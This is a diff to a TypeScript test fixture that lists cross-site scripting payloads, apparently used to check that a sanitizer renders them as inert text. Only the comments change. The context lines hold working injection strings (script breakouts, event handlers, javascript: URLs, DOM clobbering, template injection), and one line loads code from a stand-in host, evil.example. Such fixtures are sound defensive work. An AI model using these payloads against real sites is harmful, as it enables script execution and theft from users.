@@ -1,6 +1,6 @@
 /**
- * Texts that have made browsers run a script, or change a page, somewhere at some time. Each tries `alert(1)` or to get
- * an element, an attribute or an address into a page that nobody allowed. None may ever do more than be read.
+ * Texts that have made browsers run a script, or change a page, somewhere at some time. Each tries `alert(1)` or to
+ * inject an element, an attribute or a URL that is not allowed. None may ever be more than text.
  */
 export const xssPayloads: readonly string[] = [
   // Script tags, whole and broken.
@@ -30,7 +30,7 @@ export const xssPayloads: readonly string[] = [
   '</script><script>alert(1)</script>',
   '\\"</script><script>alert(1)//',
   '{"a":"</script><script>alert(1)</script>"}',
-  // Handlers of events on every kind of tag.
+  // Event handlers on every kind of tag.
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)"//',
   '<img/src="x"/onerror=alert(1)>',
@@ -79,7 +79,7 @@ export const xssPayloads: readonly string[] = [
   '<div contenteditable onblur=alert(1)>a</div>',
   '<dialog open onclose=alert(1)><form method=dialog><button>a</button></form></dialog>',
   '<p style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>a</p>',
-  // Addresses that are programs, with what browsers skip inside of them.
+  // Script URLs, with characters that browsers skip inside them.
   '<a href="javascript:alert(1)">a</a>',
   '<a href="JaVaScRiPt:alert(1)">a</a>',
   '<a href=" javascript:alert(1)">a</a>',
@@ -121,7 +121,7 @@ export const xssPayloads: readonly string[] = [
   '<img data-file="javascript:alert(1)" alt="x">',
   `<img data-file='" onerror="alert(1)' alt='" onload="alert(1)'>`,
   '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
-  // What brings other documents, or changes this one.
+  // Markup that loads other documents, or changes this one.
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
   '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
@@ -155,7 +155,7 @@ export const xssPayloads: readonly string[] = [
   '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">a</p>',
   '<xss style="-moz-binding:url(//evil.example/x.xml#x)">a</xss>',
   '<div style="background:\\75\\72\\6c\\28javascript:alert(1)\\29">a</div>',
-  // What is one thing to one parser and another thing to the next.
+  // Markup that parsers disagree about.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<template><script>alert(1)</script></template>',
   '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
@@ -206,14 +206,14 @@ export const xssPayloads: readonly string[] = [
   '%3Cscript%3Ealert(1)%3C/script%3E',
   '\\u003cimg src=x onerror=alert(1)\\u003e',
   '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
-  // Names that hide what a page relies on.
+  // Names that shadow what a page relies on (DOM clobbering).
   '<a id=location href="javascript:alert(1)">a</a>',
   '<form id=document name=document><input name=body></form>',
   '<img name=getElementById id=createElement>',
   '<p id="root">a</p><p id="page-data">{}</p>',
   '<a id=x><a id=x name=y href="javascript:alert(1)">a</a>',
   '<h2 id="__proto__" class="constructor" name="toString">a</h2>',
-  // For those who put texts together themselves.
+  // For templates and concatenated strings.
   '{{constructor.constructor("alert(1)")()}}',
   '${alert(1)}',
   '#{alert(1)}',
